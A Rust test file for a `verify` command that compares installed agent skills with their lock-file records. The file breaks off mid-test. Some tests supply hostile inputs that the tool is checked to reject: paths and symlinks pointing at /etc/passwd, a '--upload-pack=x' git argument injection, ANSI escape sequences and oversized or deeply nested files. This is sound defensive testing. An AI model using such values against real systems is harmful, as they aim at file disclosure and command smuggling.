//! The command `verify`: each verdict, what makes a copy differ from its record although nobody changed it, records of strangers, and
//! real records.

use crate::common::skip::real_data;
use crate::common::{TempDir, Tree};
use crate::program::{Place, Said, field, said};
use pretty_assertions::assert_eq;
use skilltree::{Digest, Json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const TEA: &str = "---\nname: tea\ndescription: Makes tea.\n---\nBoil water.\n";
const BOIL: &str = "#!/bin/sh\nboil\n";

/// The id that `git write-tree` gives a folder of [`TEA`], `scripts/boil` with [`BOIL`], and `scripts.d/list.txt` with `a list`.
const TREE: &str = "343aa3b7d2ef04593e634265cb577417d2b6dcba";
/// The same if the script is executable.
const EXECUTABLE_TREE: &str = "2c1da1ed5f854d8604a4d7c25914fa1c043ffeb6";

fn hex(bytes: &[u8]) -> String {
    Digest::of(bytes).to_string().replace("sha256:", "")
}

/// The SHA-256 of names and texts in this order.
fn joined(files: &[(&str, &str)]) -> String {
    hex(files.iter().map(|(name, text)| format!("{name}{text}")).collect::<String>().as_bytes())
}

/// A `skills-lock.json` with an entry for each skill, its hash and more fields.
fn lock(entries: &[(&str, &str, &str)]) -> String {
    let entry = |(name, hash, more): &(&str, &str, &str)| {
        format!("\"{name}\": {{\"source\": \"a/b\", \"sourceType\": \"github\", \"computedHash\": \"{hash}\"{more}}}")
    };
    format!("{{\"version\": 1, \"skills\": {{{}}}}}", entries.iter().map(entry).collect::<Vec<_>>().join(", "))
}

fn place_of(files: &[(&str, &str)]) -> Place {
    Place::of(Tree::default().files(files))
}

/// A project with a skill `tea` of these files, and a lock with this hash of it.
fn tea_of(files: &[(&str, &str)], hash: &str, more: &str) -> Tree {
    let tree = Tree::default().with("/project/skills-lock.json", lock(&[("tea", hash, more)]));
    files.iter().fold(tree, |tree, (name, text)| tree.with(&format!("/project/.agents/skills/tea/{name}"), *text))
}

/// What is said of each skill: its key, the verdicts of its records, and its files with `+`, `-` and `~`.
pub(crate) fn told(said: &Said) -> Vec<String> {
    let json = said.json();
    let Some(Json::List(skills)) = json.get("skills") else { panic!("no skills: {json}") };
    skills.iter().map(told_of).collect()
}

fn told_of(skill: &Json) -> String {
    let text = |json: &Json, key: &str| json.get(key).and_then(Json::as_text).unwrap_or_default().to_owned();
    let Some(Json::List(records)) = skill.get("records") else { panic!("no records: {skill}") };
    let mut told = text(skill, "key");
    for record in records {
        told.push_str(&format!(" | {}", text(record, "verdict")));
        let Some(Json::List(files)) = record.get("files") else { panic!("no files: {record}") };
        for file in files {
            let sign = match text(file, "change").as_str() {
                "added" => '+',
                "removed" => '-',
                _ => '~',
            };
            told.push_str(&format!(" {sign}{}", text(file, "path")));
        }
    }
    told
}

#[track_caller]
pub(crate) fn tells(case: &str, place: &Place, words: &[&str], expected: &[&str]) {
    let said = place.say(&[&["verify", "--json"], words].concat());
    assert_eq!(said.code, Some(0), "{case}: {}{}", said.out, said.err);
    assert_eq!(told(&said), expected, "{case}: {}{}", said.out, said.err);
}

#[test]
fn text_for_people() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let milk = TEA.replace("tea", "milk");
    let place = place_of(&[
        ("project/.agents/skills/tea/SKILL.md", TEA),
        ("project/.agents/skills/milk/SKILL.md", &milk),
        ("project/.agents/skills/jam/SKILL.md", &TEA.replace("tea", "jam")),
        ("project/skills-lock.json", &lock(&[("tea", &hash, ""), ("milk", &hash, ""), ("honey", &hash, "")])),
    ]);
    let text = "SKILL  RECORD            VERDICT       NOTE
honey  skills-lock.json  missing       the record names it, and it is not there
jam    -                 no record
milk   skills-lock.json  needs source  another hash than a/b
tea    skills-lock.json  matches       the hash of a/b
4 skills: 1 matches, 1 missing, 1 needs source, 1 no record; no record is signed
";
    place.exact("text", &["verify"], 0, text, "");
    let fields = [
        ("skills.0.key", "\"honey\""),
        ("skills.0.path", "null"),
        ("skills.1.records", "[]"),
        ("skills.3.records.0.kind", "\"skills-lock\""),
        ("skills.3.records.0.verdict", "\"matches\""),
        ("skills.3.records.0.files", "[]"),
        ("skills.3.records.0.message", "\"the hash of a/b\""),
        ("verdicts.no record", "1"),
        ("verdicts.verified", "-"),
    ];
    place.fields("JSON", &["verify"], 0, &fields);
}

#[test]
fn what_is_required() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let all = place_of(&[
        ("project/.agents/skills/tea/SKILL.md", TEA),
        ("project/skills-lock.json", &lock(&[("tea", &hash, "")])),
    ]);
    let missing = place_of(&[
        ("project/.agents/skills/tea/SKILL.md", TEA),
        ("project/skills-lock.json", &lock(&[("tea", &hash, ""), ("milk", &hash, "")])),
    ]);
    let unread = place_of(&[("project/skills-lock.json", "{")]);
    let nothing = place_of(&[]);
    let cases: &[(&Place, &[&str], i32)] = &[
        (&all, &[], 0),
        (&all, &["--require", "matches"], 0),
        (&all, &["--require", "signature"], 1),
        (&all, &["none"], 2),
        (&all, &["--source", "none"], 2),
        (&all, &["--require", "nothing"], 2),
        (&all, &[".agents/skills/tea/SKILL.md", "--require", "matches"], 0),
        (&missing, &[], 0),
        (&missing, &["--require", "matches"], 1),
        (&missing, &[".agents/skills/tea", "--require", "matches"], 0),
        (&nothing, &["--require", "matches"], 0),
        (&nothing, &["--require", "signature"], 1),
        (&unread, &["--require", "matches"], 1),
        (&unread, &["--require", "signature"], 1),
    ];
    for (place, words, code) in cases {
        let said = place.say(&[&["verify"], *words].concat());
        assert_eq!(said.code, Some(*code), "{words:?}: {}{}", said.out, said.err);
    }
    let (_, json) = missing.json(&["verify", "--require", "matches"]);
    assert_eq!(field(&json, "error.code"), "\"verify-failed\"");
}

/// The hash is over names and contents in the order of `localeCompare`, whose table is not that of bytes.
#[test]
fn order_of_names() {
    let files = [
        ("_x.md", "1"),
        ("-y.md", "2"),
        ("(z).md", "3"),
        ("@w.md", "4"),
        ("#v.md", "5"),
        ("+u.md", "6"),
        ("0.md", "7"),
        ("AGENTS.md", "8"),
        ("scripts/a-b.sh", "9"),
        ("scripts/a.sh", "10"),
        ("scripts/Run.sh", "11"),
        ("scripts/run.sh.txt", "12"),
        ("SKILL.md", TEA),
        ("skill2.md", "13"),
    ];
    tells("locale", &Place::of(tea_of(&files, &joined(&files), "")), &[], &["tea | matches"]);
    let other = [("a.md", "1"), ("SKILL.md", TEA), ("é.md", "2")];
    let by_bytes = joined(&[("SKILL.md", TEA), ("a.md", "1"), ("é.md", "2")]);
    tells("bytes", &Place::of(tea_of(&other, &by_bytes, "")), &[], &["tea | matches"]);
}

#[test]
fn line_endings() {
    let windows = |text: &str| text.replace('\n', "\r\n");
    let crlf = joined(&[("a.bin", "\0\n"), ("SKILL.md", &windows(TEA))]);
    let lf = joined(&[("a.bin", "\0\n"), ("SKILL.md", TEA)]);
    let copy = [("a.bin", "\0\n"), ("SKILL.md", TEA)];
    tells("recorded with CRLF", &Place::of(tea_of(&copy, &crlf, "")), &[], &["tea | matches"]);
    let of_windows = windows(TEA);
    let copy = [("a.bin", "\0\n"), ("SKILL.md", of_windows.as_str())];
    tells("copied with CRLF", &Place::of(tea_of(&copy, &lf, "")), &[], &["tea | matches"]);
    tells("both", &Place::of(tea_of(&copy, &crlf, "")), &[], &["tea | matches"]);
}

/// The hash is that of the source, and a copy has not all of its files.
#[test]
fn files_that_installers_leave_out() {
    let source = [("_template.md", "t"), ("metadata.json", "{}"), ("run.sh", BOIL), ("SKILL.md", TEA)];
    let hash = joined(&source);
    let with_source = |tree: Tree| {
        source.iter().fold(tree, |tree, (name, text)| tree.with(&format!("/source/skills/tea/{name}"), *text))
    };
    let copy = [("run.sh", BOIL), ("SKILL.md", TEA)];
    let place = Place::of(with_source(tea_of(&copy, &hash, ", \"skillPath\": \"skills/tea/SKILL.md\"")));
    tells("no source", &place, &[], &["tea | needs source"]);
    for source in ["../source", "../source/skills/tea", "../source/skills"] {
        tells("its source", &place, &["--source", source], &["tea | matches"]);
    }
    tells("several sources", &place, &["--source", "../home", "--source", "../source"], &["tea | matches"]);
    let packed = place.say(&["pack", "../source/skills/tea", "-o", "../tea.skill"]);
    assert_eq!(packed.code, Some(0), "{}", packed.err);
    tells("an archive", &place, &["--source", "../tea.skill"], &["tea | matches"]);
    let changed = [("run.sh", "#!/bin/sh\nburn\n"), ("SKILL.md", TEA), ("new.sh", BOIL)];
    let place = Place::of(with_source(tea_of(&changed, &hash, "")));
    tells("changed", &place, &["--source", "../source"], &["tea | differs +new.sh ~run.sh"]);
    tells("changed, without a source", &place, &[], &["tea | needs source"]);
    let fewer = [("SKILL.md", TEA)];
    let place = Place::of(with_source(tea_of(&fewer, &hash, "")));
    tells("a file is gone", &place, &["--source", "../source"], &["tea | differs -run.sh"]);
    let more = [("run.sh", BOIL), ("SKILL.md", TEA), ("new.sh", BOIL)];
    let place = Place::of(with_source(tea_of(&more, &hash, "")));
    tells("a file more", &place, &["--source", "../source"], &["tea | extra +new.sh"]);
    // Installers that leave files out leave this one out.
    let whole = [("metadata.json", "{}"), ("SKILL.md", TEA)];
    tells("a whole copy", &Place::of(tea_of(&whole, &hash, "")), &[], &["tea | differs"]);
    let place = Place::of(with_source(tea_of(&copy, &"0".repeat(64), "")));
    tells("another version of the source", &place, &["--source", "../source"], &["tea | needs source"]);
}

/// What the hash does not cover is named.
#[test]
fn files_that_a_record_does_not_cover() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let tree = || tea_of(&[("SKILL.md", TEA)], &hash, "");
    let skill = "/project/.agents/skills/tea";
    let cases = [
        ("node_modules/a/index.js", "+node_modules/"),
        (".git/hooks/pre-commit", "+.git/"),
        ("__pycache__/run.pyc", "+__pycache__/run.pyc"),
        ("lib/__pypackages__/a.py", "+lib/__pypackages__/a.py"),
    ];
    for (file, named) in cases {
        let place = Place::of(tree().with(&format!("{skill}/{file}"), "x"));
        tells(file, &place, &[], &[&format!("tea | extra {named}")]);
        let said = place.say(&["verify", "--require", "matches"]);
        assert_eq!(said.code, Some(1), "{file}");
    }
    if cfg!(unix) {
        let place = Place::of(tree().with_link(&format!("{skill}/key"), "/etc/passwd"));
        tells("a link", &place, &[], &["tea | extra +key"]);
    }
}

/// Without separators, files that are divided otherwise have one hash. Only a source can tell them apart.
#[test]
fn a_hash_without_separators() {
    let hash = joined(&[("a", "bc"), ("SKILL.md", TEA)]);
    let tree = tea_of(&[("ab", "c"), ("SKILL.md", TEA)], &hash, "");
    let place = Place::of(tree.with("/source/a", "bc").with("/source/SKILL.md", TEA));
    tells("no source", &place, &[], &["tea | matches"]);
    tells("its source", &place, &["--source", "../source"], &["tea | differs -a +ab"]);
}

/// A lock has one entry for the copies in the folders of several clients.
#[test]
fn several_copies() {
    let hash = joined(&[("metadata.json", "{}"), ("SKILL.md", TEA)]);
    let tree = tea_of(&[("SKILL.md", TEA), ("metadata.json", "{}")], &hash, "");
    let edited = format!("{TEA}Burn it.\n");
    let tree = tree
        .with("/project/.claude/skills/tea/SKILL.md", edited)
        .with("/project/.claude/skills/tea/metadata.json", "{}");
    let both = ["tea | matches", "tea | differs"];
    tells("every copy", &Place::of(tree.clone()), &["."], &both);
    tells("the one in use", &Place::of(tree.clone()), &["--dialect", "claude"], &["tea | differs"]);
    if cfg!(unix) {
        let linked = tree.without("/project/.claude/skills/tea/SKILL.md");
        let linked = linked.without("/project/.claude/skills/tea/metadata.json");
        let linked = linked.with_link("/project/.claude/skills/tea", "../../.agents/skills/tea");
        let linked = linked.with_link("/project/.claude/skills/loop", "../..");
        tells("linked", &Place::of(linked.clone()), &["."], &["tea | matches", "tea | matches"]);
        tells("linked, in use", &Place::of(linked), &["--dialect", "claude"], &["tea | matches"]);
    }
}

/// The frontmatter names a skill, whatever its folder is called.
#[test]
fn names_of_folders() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let of = |folder: &str, key: &str, text: &str| {
        place_of(&[
            (&format!("project/.agents/skills/{folder}/SKILL.md"), text),
            ("project/skills-lock.json", &lock(&[(key, &hash, "")])),
        ])
    };
    tells("the name", &of("green-tea", "tea", TEA), &[".agents/skills"], &["tea | matches"]);
    let other = TEA.replace("name: tea", "name: pot");
    tells("the folder", &of("tea", "tea", &other), &[".agents/skills"], &["pot | needs source"]);
    tells(
        "the folder of an installer",
        &of("my-tea-1.2", "My Tea: 1.2", &other),
        &[".agents/skills"],
        &["pot | needs source"],
    );
    tells("a broken frontmatter", &of("tea", "tea", "---\n: [\n"), &["."], &["tea | needs source"]);
    tells("another skill", &of("tea", "milk", TEA), &["."], &["milk | missing", "tea"]);
}

/// A skill in another one is a part of it.
#[test]
fn skills_in_skills() {
    let milk = TEA.replace("tea", "milk");
    let files = [("milk/SKILL.md", milk.as_str()), ("SKILL.md", TEA)];
    let place = Place::of(tea_of(&files, &joined(&files), ""));
    tells("as a whole", &place, &[], &["milk | matches", "tea | matches"]);
    tells("by a path", &place, &["."], &["milk | matches", "tea | matches"]);
    let edited = format!("{TEA}Burn it.\n");
    let tree = tea_of(&[("milk/SKILL.md", &milk), ("SKILL.md", &edited)], &joined(&files), "");
    let place = Place::of(tree.with("/source/milk/SKILL.md", milk.as_str()).with("/source/SKILL.md", TEA));
    let parts = ["milk | matches", "tea | differs ~SKILL.md"];
    tells("part by part", &place, &["--source", "../source"], &parts);
}

/// With a path, a skill has the key that it has without one.
#[test]
fn keys_of_skills_below_a_path() {
    let skill = |key: &str, name: &str| {
        (format!("/project/.claude/skills/{key}/SKILL.md"), TEA.replace("tea\n", &format!("{name}\n")))
    };
    let files = [skill("milk", "tea"), skill("tea", "milk"), skill("tea/cup", "cup")];
    let place = Place::of(files.into_iter().fold(Tree::default(), |tree, (path, text)| tree.with(&path, text)));
    let named = |path: &str| format!("{:?}", place.named(path));
    let cases = [
        ("claude", ".claude/skills", 1, "milk", "project/.claude/skills/milk"),
        ("claude", ".", 1, "milk", "project/.claude/skills/milk"),
        ("sven", ".claude/skills/tea/cup", 0, "tea/cup", "project/.claude/skills/tea/cup"),
    ];
    for (dialect, path, number, key, folder) in cases {
        let fields =
            [(format!("skills.{number}.key"), format!("{key:?}")), (format!("skills.{number}.path"), named(folder))];
        let fields = fields.each_ref().map(|(field, value)| (field.as_str(), value.as_str()));
        place.fields(dialect, &["verify", "--dialect", dialect, path], 0, &fields);
    }
}

/// Locks of parts of a project, and skills in the folders above.
#[test]
fn locks_above_and_below() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let lock = lock(&[("tea", &hash, "")]);
    let place = place_of(&[("project/app/.agents/skills/tea/SKILL.md", TEA), ("project/skills-lock.json", &lock)]);
    tells("above", &place, &["app"], &["tea | matches"]);
    let place = place_of(&[("project/.agents/skills/tea/SKILL.md", TEA), ("project/app/skills-lock.json", &lock)]);
    tells("below", &place, &["."], &["tea | matches"]);
    let place = place_of(&[("other/.agents/skills/tea/SKILL.md", TEA), ("other/skills-lock.json", &lock)]);
    tells("elsewhere", &place, &["../other"], &["tea | matches"]);
    let place = place_of(&[("skills-lock.json", &lock), ("project/.agents/skills/tea/SKILL.md", TEA)]);
    tells("above the project", &place, &[], &["tea"]);
}

#[test]
fn records_that_are_not_known() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let tea = ("project/.agents/skills/tea/SKILL.md", TEA);
    let known = lock(&[("tea", &hash, "")]);
    let cases = [
        known.replace("github", "autoskills-registry"),
        known.replace("\"sourceType\": \"github\", ", ""),
        known.replace(&hash, "md5-of-something"),
    ];
    for text in &cases {
        tells(text, &place_of(&[tea, ("project/skills-lock.json", text)]), &[], &["tea | unknown record"]);
    }
    let broken = [
        (known.replace("\"version\": 1", "\"version\": 2"), "its version is 2, expected 1"),
        (known.replace("\"version\": 1", "\"version\": \"1\""), "it has no version"),
        ("{\"version\": 1}".to_owned(), "it has no map of skills"),
        ("[".repeat(100_000), "at most 128 levels"),
        ("not JSON\u{1b}[2J".to_owned(), "expected a value at line 1"),
    ];
    for (text, why) in &broken {
        let place = place_of(&[tea, ("project/skills-lock.json", text)]);
        let said = place.say(&["verify", "--json"]);
        assert_eq!((said.code, told(&said)), (Some(0), vec!["tea | unknown record".to_owned()]), "{why}: {}", said.err);
        assert!(said.err.contains("skills-lock.json`") && said.err.contains(why), "{why}: {}", said.err);
        assert!(!said.err.contains('\u{1b}'), "{}", said.err);
    }
    let no_hash = known.replace(&format!(", \"computedHash\": \"{hash}\""), "");
    let place = place_of(&[tea, ("project/skills-lock.json", &no_hash), ("source/SKILL.md", TEA)]);
    tells("no hash", &place, &[], &["tea | needs source"]);
    tells("no hash, but a source", &place, &["--source", "../source"], &["tea | matches"]);
}

/// The source of a lock may be a folder of the project itself.
#[test]
fn local_sources() {
    let hash = joined(&[("_x.md", "x"), ("SKILL.md", TEA)]);
    let local = |source: &str| {
        lock(&[("tea", &hash, "")]).replace("\"a/b\"", &format!("\"{source}\"")).replace("github", "local")
    };
    let of = |source: &str| {
        let tree = tea_of(&[("SKILL.md", TEA)], &hash, "").without("/project/skills-lock.json");
        let tree = tree.with("/project/skills-lock.json", local(source));
        let tree = tree.with("/project/own/tea/SKILL.md", TEA).with("/project/own/tea/_x.md", "x");
        tree.with("/outside/SKILL.md", TEA).with("/outside/_x.md", "x")
    };
    for source in ["./own/tea", "own/tea"] {
        tells(source, &Place::of(of(source)), &[], &["tea | matches"]);
    }
    let outside = Place::of(of("own/tea")).named("outside");
    for source in ["../outside", "own/../../outside", outside.as_str(), "C:\\\\outside", ".agents/skills/tea"] {
        tells(source, &Place::of(of(source)), &[], &["tea | needs source"]);
    }
    if cfg!(unix) {
        let linked = of("link").with_link("/project/link", "../outside");
        tells("a link out", &Place::of(linked), &[], &["tea | needs source"]);
    }
}

fn user_lock(hash: &str, more: &str) -> String {
    format!(
        "{{\"version\": 3, \"skills\": {{\"tea\": {{\"source\": \"a/b\", \"sourceType\": \"github\", \
         \"skillFolderHash\": \"{hash}\"{more}}}}}, \"dismissed\": {{}}}}"
    )
}

#[test]
fn locks_of_a_user() {
    let skill = |tree: Tree, folder: &str| {
        let files = [("SKILL.md", TEA), ("scripts/boil", BOIL), ("scripts.d/list.txt", "a list\n")];
        files.iter().fold(tree, |tree, (name, text)| tree.with(&format!("{folder}/{name}"), *text))
    };
    let home = skill(Tree::default(), "/home/.agents/skills/tea");
    let of = |text: String| home.clone().with("/home/.agents/.skill-lock.json", text);
    for tree in [TREE, EXECUTABLE_TREE] {
        tells("a tree of git", &Place::of(of(user_lock(tree, ""))), &[], &["tea | matches"]);
    }
    let files = [("scripts.d/list.txt", "a list\n"), ("scripts/boil", BOIL), ("SKILL.md", TEA)];
    tells("a hash", &Place::of(of(user_lock(&joined(&files), ""))), &[], &["tea | matches"]);
    let other = "0123456789012345678901234567890123456789";
    tells("another tree", &Place::of(of(user_lock(other, ""))), &[], &["tea | needs source"]);
    let known = "SKILL.md\0".to_owned() + TEA + "\0scripts.d/list.txt\0a list\n\0scripts/boil\0" + BOIL + "\0";
    let digest = format!(", \"wellKnownDigest\": \"sha256:{}\"", hex(known.as_bytes()));
    let well_known = user_lock("", &digest).replace("github", "well-known");
    tells("a well-known address", &Place::of(of(well_known)), &[], &["tea | matches"]);
    tells("an old version", &Place::of(of(user_lock(TREE, "").replace("3,", "2,"))), &[], &["tea | unknown record"]);
    let place = Place::of(
        skill(Tree::default(), "/project/.agents/skills/tea")
            .with("/home/.agents/.skill-lock.json", user_lock(TREE, "")),
    );
    tells("a skill of the project", &place, &[], &["tea | missing", "tea"]);
    let state = home.clone().with("/state/skills/.skill-lock.json", user_lock(TREE, ""));
    let place = Place::of(state);
    let mut command = place.command(&["verify", "--json"]);
    let found = said(command.env("XDG_STATE_HOME", place.at("state")));
    assert_eq!(told(&found), ["tea | matches"], "{}", found.err);
    let source = skill(of(user_lock(TREE, "")).without("/home/.agents/skills/tea/scripts/boil"), "/source/skills/tea");
    let source = source.with("/home/.agents/skills/tea/scripts/boil", "burn\n");
    tells("its source", &Place::of(source), &["--source", "../source"], &["tea | differs ~scripts/boil"]);
}

fn apm(dependency: &str) -> String {
    format!("lockfile_version: '1'\napm_version: 0.25.0\ndependencies:\n- repo_url: a/b\n{dependency}")
}

fn sha(text: &str) -> String {
    Digest::of(text.as_bytes()).to_string()
}

#[test]
fn locks_of_apm() {
    let folder = ".agents/skills/tea";
    let listed = apm(&format!(
        "  deployed_files:\n  - {folder}\n  - {folder}/SKILL.md\n  - {folder}/run.sh\n  - copilot-app-db://workflows/x\n  \
         deployed_file_hashes:\n    {folder}/SKILL.md: {}\n    {folder}/run.sh: {}\n",
        sha(TEA),
        sha("a\rb\n"),
    ));
    let of = |files: &[(&str, &str)]| {
        let tree = Tree::default().with("/project/apm.lock.yaml", listed.as_str());
        Place::of(files.iter().fold(tree, |tree, (name, text)| tree.with(&format!("/project/{folder}/{name}"), *text)))
    };
    let windows = TEA.replace('\n', "\r\n");
    tells("as recorded", &of(&[("SKILL.md", TEA), ("run.sh", "a\rb\n")]), &[], &["tea | matches"]);
    tells("with CRLF", &of(&[("SKILL.md", &windows), ("run.sh", "a\rb\r\n")]), &[], &["tea | matches"]);
    tells("a lone CR counts", &of(&[("SKILL.md", TEA), ("run.sh", "ab\n")]), &[], &["tea | differs ~run.sh"]);
    tells("a file less", &of(&[("SKILL.md", TEA)]), &[], &["tea | differs -run.sh"]);
    let more = [("SKILL.md", TEA), ("run.sh", "a\rb\n"), ("new.sh", "x")];
    tells("a file more", &of(&more), &[], &["tea | extra +new.sh"]);
    tells("no skill", &of(&[]), &[], &["tea | missing"]);
    let both = format!("{listed}local_deployed_files: [.claude/skills/tea/SKILL.md, .agents/skills/tea/SKILL.md]\n");
    let place = place_of(&[("project/.agents/skills/tea/SKILL.md", TEA), ("project/apm.lock.yaml", &both)]);
    let expected = ["tea | missing", "tea | differs -run.sh | needs source"];
    tells("one of two copies", &place, &[], &expected);
    let whole = |hash: &str| {
        apm(&format!("  virtual_path: skills/tea\n  deployed_files:\n  - {folder}\n  content_hash: {hash}\n"))
    };
    let of = |hash: &str| {
        let tree = Tree::default().with("/project/apm.lock.yaml", whole(hash));
        let tree = tree.with(&format!("/project/{folder}/SKILL.md"), TEA).with(&format!("/project/{folder}/a.md"), "a");
        Place::of(tree.with("/source/skills/tea/SKILL.md", TEA).with("/source/skills/tea/b.md", "b"))
    };
    let own = format!("sha256:{}", joined(&[("SKILL.md", TEA), ("a.md", "a")]));
    tells("of all files", &of(&own), &[], &["tea | matches"]);
    let source = format!("sha256:{}", joined(&[("SKILL.md", TEA), ("b.md", "b")]));
    tells("of others", &of(&source), &[], &["tea | needs source"]);
    tells("compared", &of(&source), &["--source", "../source"], &["tea | differs +a.md -b.md"]);
    tells("no hash", &of("null"), &[], &["tea | needs source"]);
    tells("another hash", &of("md5:12"), &[], &["tea | unknown record"]);
    let broken = [
        (apm("  deployed_files: [../other/SKILL.md]\n"), "leads out of the project"),
        (apm("  deployed_file_hashes: {/etc/passwd: x}\n"), "leads out of the project"),
        (apm("  deployed_files: [a/./../../b]\n"), "leads out of the project"),
        (apm("  deployed_files: ['C:\\x']\n"), "leads out of the project"),
        (apm("  name: &a [x, x]\n  more: [*a, *a]\n"), "expected no alias"),
        (apm("  name: 1\n  name: 2\n"), "each key once"),
        (format!("lockfile_version: {}", "[".repeat(40)), "at most 32 levels"),
        (format!("lockfile_version: {}", "[".repeat(50_000)), "recursion limit"),
        (format!("lockfile_version:\n{}", "- ".repeat(50_000)), "at most 32 levels"),
        (format!("lockfile_version: '1'\nx: [{}]\n", "a, ".repeat(300_000)), "at most 200000 values"),
        ("lockfile_version: '2'\n".to_owned(), "its version is 2"),
        ("%YAML 1.2\n---\nlockfile_version: '1'\n".to_owned(), "directives"),
        ("a: b: c\n".to_owned(), "not valid YAML"),
    ];
    for (text, why) in &broken {
        let place = place_of(&[("project/.agents/skills/tea/SKILL.md", TEA), ("project/apm.lock.yaml", text)]);
        let said = place.say(&["verify", "--json"]);
        assert_eq!((said.code, told(&said)), (Some(0), vec!["tea | unknown record".to_owned()]), "{why}: {}", said.err);
        assert!(said.err.contains(why), "{why}: {}", said.err);
    }
}

/// A copy by `gh skill`: the frontmatter is written anew, with the record in it.
fn by_gh(body: &str, description: &str, tree: &str) -> String {
    format!(
        "---\ndescription: {description}\nmetadata:\n    github-path: skills/tea\n    github-ref: refs/tags/v1\n    \
         github-repo: https://github.com/a/b\n    github-tree-sha: {tree}\nname: tea\n---\n{body}"
    )
}

#[test]
fn records_in_the_frontmatter() {
    let of = |text: &str, boil: &str| {
        let tree = Tree::default().with("/project/.agents/skills/tea/SKILL.md", text);
        let tree = tree.with("/project/.agents/skills/tea/scripts/boil", boil);
        let tree = tree.with("/project/.agents/skills/tea/scripts.d/list.txt", "a list\n");
        let tree = tree.with("/source/skills/tea/SKILL.md", TEA).with("/source/skills/tea/scripts/boil", BOIL);
        Place::of(tree.with("/source/skills/tea/scripts.d/list.txt", "a list\n"))
    };
    let copy = by_gh("Boil water.\n\n", "Makes tea.", TREE);
    tells("no source", &of(&copy, BOIL), &[], &["tea | needs source"]);
    let source = ["--source", "../source"];
    tells("its source", &of(&copy, BOIL), &source, &["tea | matches"]);
    let other = by_gh("Burn it.\n", "Makes tea.", TREE);
    tells("another text", &of(&other, BOIL), &source, &["tea | differs ~SKILL.md"]);
    let other = by_gh("Boil water.\n", "Makes it.", TREE);
    tells("another description", &of(&other, BOIL), &source, &["tea | differs ~SKILL.md"]);
    tells("another script", &of(&copy, "burn\n"), &source, &["tea | differs ~scripts/boil"]);
    let other = by_gh("Boil water.\n", "Makes tea.", "0123456789012345678901234567890123456789");
    tells("another tree", &of(&other, BOIL), &source, &["tea | needs source"]);
    let other = by_gh("Boil water.\n", "Makes tea.", "--upload-pack=x");
    tells("no tree", &of(&other, BOIL), &source, &["tea | unknown record"]);
    // What any client reads as a frontmatter has its record.
    for text in [
        copy.replacen("---\n", "--- \n", 1),
        format!("\n{copy}"),
        copy.replace("Makes tea.", "&q Makes tea.\nx: *q"),
        copy.replace("Makes tea.", "Use when: tea"),
        copy.replace("Boil water.", "```\n---\n"),
    ] {
        tells(&text, &of(&text, BOIL), &[], &["tea | needs source"]);
    }
    let place = of(&copy, BOIL);
    let bytes = [copy.as_bytes(), b"\xff\n"].concat();
    std::fs::write(place.at("project/.agents/skills/tea/SKILL.md"), bytes).unwrap();
    tells("not UTF-8", &place, &[".agents/skills/tea"], &["tea | needs source"]);
}

/// A revision is a source, and a repository knows the tree of a record whichever revision is named.
#[test]
fn sources_in_git() {
    let place = place_of(&[
        ("project/skills/tea/SKILL.md", TEA),
        ("project/skills/tea/scripts/boil", BOIL),
        ("project/skills/tea/scripts.d/list.txt", "a list\n"),
    ])
    .env("PATH", std::env::var_os("PATH").unwrap_or_default());
    let commit = |place: &Place| place.git(&["add", "."]) && place.git(&["commit", "--quiet", "-m", "x"]);
    if !place.git(&["init", "--quiet"]) || !commit(&place) {
        return;
    }
    std::fs::write(place.at("project/skills/tea/scripts/boil"), "boil more\n").unwrap();
    commit(&place);
    for (path, text) in [
        ("SKILL.md", by_gh("Boil water.\n", "Makes tea.", TREE)),
        ("scripts/boil", BOIL.to_owned()),
        ("scripts.d/list.txt", "a list\n".to_owned()),
    ] {
        let at = place.at(&format!("project/.agents/skills/tea/{path}"));
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(at, text).unwrap();
    }
    for source in ["git:HEAD~1", "git:HEAD~1:skills", "git:HEAD~1:skills/tea", "git:HEAD"] {
        tells(source, &place, &["--source", source], &["tea | matches"]);
    }
    let said = place.say(&["verify", "--source", "git:nope"]);
    assert_eq!(said.code, Some(2), "{}", said.err);
    std::fs::write(place.at("project/.agents/skills/tea/scripts/boil"), "burn\n").unwrap();
    tells("changed", &place, &["--source", "git:HEAD"], &["tea | differs ~scripts/boil"]);
}

/// Nothing outside of the project is read for a record, and nothing is too large.
#[test]
fn records_of_strangers() {
    let hash = joined(&[("SKILL.md", TEA)]);
    let tea = || Tree::default().with("/project/.agents/skills/tea/SKILL.md", TEA);
    let large = tea().with_sparse("/project/skills-lock.json", 1 << 32);
    tells("a large file", &Place::of(large), &[], &["tea | unknown record"]);
    let large = tea_of(&[("SKILL.md", TEA)], &hash, "");
    let large = large.with_sparse("/project/.agents/skills/tea/big.bin", 1 << 40);
    tells("a large skill", &Place::of(large), &[], &["tea | needs source"]);
    let many: Vec<String> = (0..25_000).map(|n| format!("\"s{n}\": {{}}")).collect();
    let many = format!("{{\"version\": 1, \"skills\": {{{}}}}}", many.join(","));
    tells("many skills", &Place::of(tea().with("/project/skills-lock.json", many)), &[], &["tea | unknown record"]);
    for path in ["../../outside/SKILL.md", "/etc/passwd", "..\\\\outside\\\\SKILL.md", "a/../../outside/SKILL.md"] {
        let more = format!(", \"skillPath\": \"{path}\"");
        let tree = tea_of(&[("SKILL.md", "edited")], &hash, &more).with("/source/x", "x");
        let place = Place::of(tree.with("/outside/SKILL.md", TEA));
        tells(path, &place, &[".", "--source", "../source"], &["tea | needs source"]);
    }
    let odd = "\\u001b[2J\\n../x";
    let place = Place::of(tea().with("/project/skills-lock.json", lock(&[(odd, &hash, "")])));
    let said = place.say(&["verify"]);
    assert!(said.code == Some(0) && !said.out.contains('\u{1b}'), "{}", said.out);
    assert_eq!(said.out.lines().count(), 4, "{}", said.out);
    if cfg!(unix) {
        let linked = tea().with("/outside.json", lock(&[("tea", &hash, "")]));
        let linked = linked.with_link("/project/skills-lock.json", "../outside.json");
        tells("a link out of the project", &Place::of(linked), &[], &["tea | unknown record"]);
        let fifo = tea().with_other("/project/skills-lock.json");
        tells("a FIFO", &Place::of(fifo), &[], &["tea | unknown record"]);
        let source = tea_of(&[("SKILL.md", "edited")], &hash, ", \"skillPath\": \"out/SKILL.md\"");
        let source = source.with("/outside/SKILL.md", TEA).with_link("/source/out", "../outside");
